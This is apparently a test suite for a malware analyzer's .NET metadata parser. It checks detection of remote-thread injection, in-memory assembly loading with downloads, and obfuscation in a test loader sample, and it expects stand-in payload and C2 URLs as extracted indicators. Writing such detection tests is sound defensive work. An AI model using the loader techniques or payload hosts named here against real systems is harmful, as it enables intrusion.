    const m = pe(await analyze(app)).dotnet.metadata;
    expect(m.types).toEqual(['App.Program', 'App.Program+Stage', 'App.Program+Stage+Step']);
    expect(m.memberReferences).toContain('Kit.Outer+Inner::Go');

    // Rows (nested, enclosing) (3, 2) and (4, 3) of the NestedClass table, rewritten into a cycle: Stage in Step, Step in Stage.
    const at = Buffer.from(app).indexOf(Buffer.from([3, 0, 2, 0, 4, 0, 3, 0]));
    expect(at).toBeGreaterThan(0);
    const cyclic = app.slice();
    cyclic[at + 2] = 4;
    const names: string[] = pe(await analyze(cyclic)).dotnet.metadata.types;
    // The chain is cut after MAX_NESTING (16) enclosing steps: 17 names for Stage, 16 for Step (named on the way).
    const chain = (n: number) => Array.from({ length: n }, (_, i) => (i % 2 ? 'Step' : 'Stage')).join('+');
    expect(names).toEqual(['App.Program', chain(17), chain(16)]);
  });

  it('P/Invoke imports count as imports, and the loader, the obfuscator and the URLs are signalled', async () => {
    const result = await analyze(loader);
    expect(ids(result)).toEqual(expect.arrayContaining(['pe.injection.remote_thread', 'pe.dotnet.reflective_load', 'pe.dotnet.obfuscated']));
    const load = result.signals!.find((s) => s.id === 'pe.dotnet.reflective_load')!;
    expect(load.evidence).toEqual([
      'references System.Reflection.Assembly::Load(…, byte[]): loads an assembly from bytes in memory',
      'and downloads with System.Net.WebClient::DownloadData',
    ]);
    expect(load.strength).toBe(0.65);
    expect(SIGNAL_BY_ID.get('pe.dotnet.reflective_load')!.mitre).toEqual(['T1620']);
    expect(result.tags).toEqual(expect.arrayContaining(['dotnet', 'obfuscated']));

    const whole = await pipeline.analyze({ name: 'loader.exe', data: loader }, testEngineOptions());
    const iocs = whole.files[0].iocs.map((i) => i.value);
    expect(iocs).toEqual(expect.arrayContaining(['http://payload.example-bad.ru/stage2.bin', 'http://c2.example-bad.ru/gate.php']));
    expect([Verdict.Malicious, Verdict.LikelyMalicious]).toContain(whole.verdict.verdict);
  });

  it('an ordinary assembly (loading another by name, reading a file) is not flagged', async () => {
    const hello = workshop.compileCs(
      'hello.exe',
      `using System; using System.IO; using System.Reflection;
      class Hello { static void Main(string[] args) {
        Assembly xml = Assembly.Load("System.Xml");
        Console.WriteLine("Hello from " + xml.GetName().Name + ": " + File.ReadAllText(args[0]).Length);
      } }`,
    );
    const result = await analyze(hello);
    const m = pe(result).dotnet.metadata;
    expect(m.loadsFromBytes).toEqual([]);
    expect(m.obfuscators).toEqual([]);
    expect(m.pinvoke).toEqual([]);
    expect(result.signals!.filter((s) => (s.verdict ?? SIGNAL_BY_ID.get(s.id)!.verdict) !== Verdict.Informational)).toEqual([]);
    const whole = await pipeline.analyze({ name: 'hello.exe', data: hello }, testEngineOptions());
    expect({ verdict: whole.verdict.verdict, signals: whole.files[0].signals }).toEqual({ verdict: Verdict.NoThreat, signals: [] });
  });

  it('random corruption of the metadata never throws and stays fast', async () => {
    const { offset, size } = pe(await analyze(loader)).dotnet.metadata.streams.reduce(
      (span: { offset: number; size: number }, s: { offset: number; size: number }) => ({ offset: Math.min(span.offset, s.offset), size: Math.max(span.offset + span.size, s.offset + s.size) - Math.min(span.offset, s.offset) }),
      { offset: Number.MAX_SAFE_INTEGER, size: 0 },
    );
    const noise = seededBytes(8192, 7);
    const started = Date.now();
    for (let n = 0; n < 400; n++) {
      const data = loader.slice();
      for (let k = 0; k < 1 + (n % 6); k++) {
        const at = offset - 64 + ((noise[(n * 6 + k) % noise.length] << 8) | noise[(n * 6 + k + 1) % noise.length]) % (size + 64);
        data[at] = noise[(n * 7 + k) % noise.length];
      }
      const result = await analyzer.analyze(fileContext(data, 'fuzz.exe'));
      expect(pe(result).dotnet).toBeDefined();
    }
    expect(Date.now() - started).toBeLessThan(20_000);
  });

  it('damaged metadata (row counts, stream bounds, string heap) ends as anomalies, never as a failure', async () => {
    const meta = pe(await analyze(loader)).dotnet.metadata;
    const tables = meta.streams[0].offset;
    // The first row count (Module) set past the stream or absurdly high, and a #US length past its heap.
    const cases: [string, (d: Uint8Array) => void, RegExp][] = [
      ['row count', (d) => new DataView(d.buffer).setUint32(tables + 24, 0x00ffffff, true), /^\.NET metadata: tables: table Module \(16777215 rows\) runs past the end of the #~ stream$/],
      ['huge row count', (d) => new DataView(d.buffer).setUint32(tables + 24, 0x7fffffff, true), /^\.NET metadata: tables: table Module declares 2147483647 rows$/],
      ['user string', (d) => (d[meta.streams[2].offset + 1] = 0xbf), /^\.NET metadata: #US: string at 0x[0-9a-f]+ runs past the heap$/],
    ];
    for (const [label, damage, anomaly] of cases) {
      const data = loader.slice();
      damage(data);
      const result = await analyze(data);
      expect({ label, anomalies: pe(result).anomalies }).toEqual({ label, anomalies: expect.arrayContaining([expect.stringMatching(anomaly)]) });
      expect(result.issues).toEqual([]);
    }
  });
});
